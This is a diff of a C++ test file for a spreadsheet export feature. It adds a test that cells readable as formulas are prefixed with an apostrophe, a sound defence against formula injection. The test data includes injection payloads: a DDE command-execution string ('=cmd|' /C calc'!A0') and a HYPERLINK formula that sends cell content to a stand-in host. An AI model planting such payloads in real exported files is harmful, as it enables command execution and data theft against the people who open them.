@@ -100,12 +100,12 @@ TEST(WriteResultExport, StretchesJoinIntoTheWholeTextInItsEncoding) {
     for (TextEncoding encoding : {TextEncoding::Windows1252, TextEncoding::Utf8Bom}) {
       std::string joined;
       int parts = 0;
-      const size_t splitting = writeResultExport(result, order, numbers, format, encoding, [&](std::string_view part) {
+      const ExportCounts counts = writeResultExport(result, order, numbers, format, encoding, [&](std::string_view part) {
         joined += part;
         return ++parts < 1000;
       });
       EXPECT_EQ(joined, encodeExportText(BuildExportText(table, exported, format), encoding));
-      EXPECT_EQ(splitting, CountCellsThatSplit(table, exported, format));
+      EXPECT_EQ(counts.splitting, CountCellsThatSplit(table, exported, format));
       EXPECT_GE(parts, 2);
     }
   }
@@ -113,6 +113,54 @@ TEST(WriteResultExport, StretchesJoinIntoTheWholeTextInItsEncoding) {
   int parts = 0;
   writeResultExport(result, order, true, format, TextEncoding::Utf8, [&](std::string_view) { return ++parts < 2; });
   EXPECT_EQ(parts, 2);
+}
+
+// A spreadsheet opening delimited text runs a cell that reads as a formula;
+// an apostrophe in front keeps it text.
+TEST(BuildExportText, PutsAnApostropheBeforeCellsThatReadAsFormulas) {
+  const struct {
+    const char* cell;
+    bool formula;
+  } cells[] = {
+      {"=HYPERLINK(\"http://x\"&C2;\"Quelle\")", true}, {"=cmd|' /C calc'!A0", true}, {"= Churchill-32772", true},
+      {"=", true}, {"+A1", true}, {"-(1)", true}, {"@SUM(A1)", true}, {"-\xC3\x84rger", true},
+      {"+ 1850", false}, {"-", false}, {"-5", false}, {"@#DJULIAN@ 24.04.1827", false}, {"a=b", false},
+      {" =1", false}, {"--", false}, {"+\xC3\x97", false}, {"-\xE2\x80\x93x", false}, {"", false},
+  };
+  StringTable result(2);
+  result.setRowCount(static_cast<int>(std::size(cells)) + 1);
+  result.setCell(0, 0, "=Header");
+  result.setCell(1, 0, "H");
+  for (size_t k = 0; k < std::size(cells); ++k) {
+    result.setCell(0, static_cast<int>(k) + 1, cells[k].cell);
+    result.setCell(1, static_cast<int>(k) + 1, "x");
+    EXPECT_EQ(readsAsFormula(cells[k].cell), cells[k].formula) << cells[k].cell;
+  }
+  const size_t formulas = 8;
+  const StringTable table = makeExportTable(result, {0, 1});
+  for (const ExportFormat& format :
+       {ExportFormat{";", "", "\n"}, ExportFormat{";", "\"", "\n"}, ExportFormat{";", "", "\n", true}}) {
+    std::string expected = format.enclose + format.enclose + ";" + format.enclose + "=Header" + format.enclose + ";" +
+                           format.enclose + "H" + format.enclose;
+    for (size_t k = 0; k < std::size(cells); ++k) {
+      std::string cell = cells[k].cell;
+      if (!format.enclose.empty())
+        for (size_t at = cell.find('"'); at != std::string::npos; at = cell.find('"', at + 2)) cell.insert(at, "\"");
+      const std::string apostrophe = cells[k].formula && !format.keepFormulas ? "'" : "";
+      expected += "\n" + format.enclose + std::to_string(k + 1) + format.enclose + ";" + format.enclose + apostrophe +
+                  cell + format.enclose + ";" + format.enclose + "x" + format.enclose;
+    }
+    EXPECT_EQ(BuildExportText(table, {true, true, true}, format), expected);
+    EXPECT_EQ(CountFormulaCells(table, {true, true, true}), formulas);
+    EXPECT_EQ(CountFormulaCells(table, {true, false, true}), 0u);
+    std::string written;
+    const ExportCounts counts = writeResultExport(result, {0, 1}, true, format, TextEncoding::Utf8, [&](std::string_view part) {
+      written += part;
+      return true;
+    });
+    EXPECT_EQ(written, expected);
+    EXPECT_EQ(counts.formulas, formulas);
+  }
 }
 
 TEST(EncodeExportText, WritesTheTextInTheChosenEncoding) {
